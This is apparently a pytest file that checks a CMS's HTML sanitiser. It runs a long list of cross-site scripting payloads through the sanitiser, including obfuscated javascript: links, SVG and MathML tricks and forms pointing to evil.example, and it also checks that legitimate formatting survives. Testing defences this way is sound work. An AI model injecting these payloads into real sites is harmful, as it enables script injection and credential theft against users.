"""The HTML sanitiser against a corpus of hostile payloads, and what normal formatting keeps."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from crpm_cms.content.sanitize import ATTRIBUTES, TAGS, sanitize_html

IMAGE = "/content/images/" + "0123456789abcdef" * 2 + ".png"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    '<p onclick="alert(1)">clic</p>',
    '<img src="x" onerror="alert(1)">',
    f'<img src="{IMAGE}" alt="ok" onload="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="  javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="java&#x09;script:alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">a</a>',
    '<a href="javascript&#58;alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="VbScRiPt:msgbox(1)">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<img src="javascript:alert(1)" alt="x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="x">',
    '<img src="https://evil.example/track.png" alt="pixel">',
    '<img src="//evil.example/content/images/a.png" alt="x">',
    f'<img src="{IMAGE}" srcset="https://evil.example/a.png 2x" alt="x">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=10></circle></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<p style="background:url(javascript:alert(1))">s</p>',
    '<div style="width: expression(alert(1))">css</div>',
    "<style>@import 'https://evil.example/x.css'; p { color: red }</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--<script>alert(1)</script>-->",
    "<p>unclosed <b>bold <i>italic <a href='javascript:alert(1)'>x",
    "<ul><li>one<li>two</ul></p></div></span>",
    '<a href="https://ok.example" target="_blank" onmouseover="alert(1)">ok</a>',
    '<td colspan="javascript:alert(1)" rowspan="999999">cell</td>',
    '<h2 id="x" class="y" data-x="1">heading</h2>',
    "<xss:script xmlns:xss='http://www.w3.org/1999/xhtml'>alert(1)</xss:script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<marquee onstart=alert(1)>",
    '<a href="https://ok.example" rel="opener">ok</a>',
]

DANGEROUS_SCHEMES = re.compile(r"^(javascript|vbscript|data|file):")


class Inspector(HTMLParser):
    """Collects every tag and attribute of the sanitised output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_html_comes_back_harmless(payload: str) -> None:
    cleaned = sanitize_html(payload)
    found = inspect(cleaned)
    assert set(found.tags) <= TAGS, cleaned
    lowered = cleaned.lower()
    for tag in ("<script", "<style", "<svg", "<math", "<iframe", "<object", "<embed", "<form",
                "<input", "<meta", "<base", "<link", "<template"):
        assert tag not in lowered, cleaned
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), cleaned
        assert name in ATTRIBUTES.get(tag, set()) | {"rel"}, cleaned
        normalised = re.sub(r"[\x00-\x20]", "", value).lower()
        assert not DANGEROUS_SCHEMES.match(normalised), cleaned
        if tag == "img" and name == "src":
            assert value == IMAGE
        if name == "rel":
            assert value == "noopener noreferrer"


def test_text_that_only_mentions_javascript_stays_text() -> None:
    cleaned = sanitize_html("<p>Écrire javascript:alert(1) dans un lien ne marche pas.</p>")
    assert cleaned == "<p>Écrire javascript:alert(1) dans un lien ne marche pas.</p>"
    assert inspect(cleaned).attributes == []


def test_normal_formatting_survives() -> None:
    html = (
        "<h2>Titre</h2><h3>Sous-titre</h3><h4>Détail</h4>"
        "<p>Un <strong>texte</strong> <em>riche</em>, <b>gras</b>, <i>italique</i>,"
        " <u>souligné</u>, <s>barré</s>,<br>avec un <code>code</code>.</p>"
        "<blockquote><p>Une citation.</p></blockquote>"
        "<ul><li>un</li><li>deux</li></ul><ol><li>premier</li></ol>"
        '<p><a href="https://crpm.example/notes" rel="noopener noreferrer">lien</a> '
        '<a href="mailto:contact@crpm.example" rel="noopener noreferrer">écrire</a> '
        '<a href="/notes/etude" rel="noopener noreferrer">interne</a></p>'
        "<table><thead><tr><th>Pays</th><th>Valeur</th></tr></thead>"
        '<tbody><tr><td colspan="2">Sénégal</td></tr></tbody></table>'
        f'<figure><img src="{IMAGE}" alt="Carte du réseau"><figcaption>Carte</figcaption></figure>'
        "<hr><pre>  indenté</pre>"
    )
    assert sanitize_html(html) == html


def test_links_get_rel_noopener_and_lose_other_attributes() -> None:
    cleaned = sanitize_html('<a href="https://ok.example" target="_blank" title="t">ok</a>')
    assert cleaned == '<a href="https://ok.example" rel="noopener noreferrer">ok</a>'


@pytest.mark.parametrize("image", [
    f'<img src="{IMAGE}">',  # no alternative text
    f'<img src="{IMAGE}" alt="">',
    f'<img src="{IMAGE}" alt="   ">',
    '<img src="https://evil.example/a.png" alt="ailleurs">',  # not from this site
    '<img src="/content/images/../../secret.png" alt="x">',
    '<img alt="sans source">',
])
def test_images_need_our_own_source_and_alt_text(image: str) -> None:
    assert sanitize_html(f"<p>avant</p>{image}<p>après</p>") == "<p>avant</p><p>après</p>"


def test_the_alt_text_is_escaped_not_interpreted() -> None:
    cleaned = sanitize_html(f'<img src="{IMAGE}" alt="&quot;><script>alert(1)</script>">')
    assert "<script" not in cleaned and inspect(cleaned).tags == ["img"]
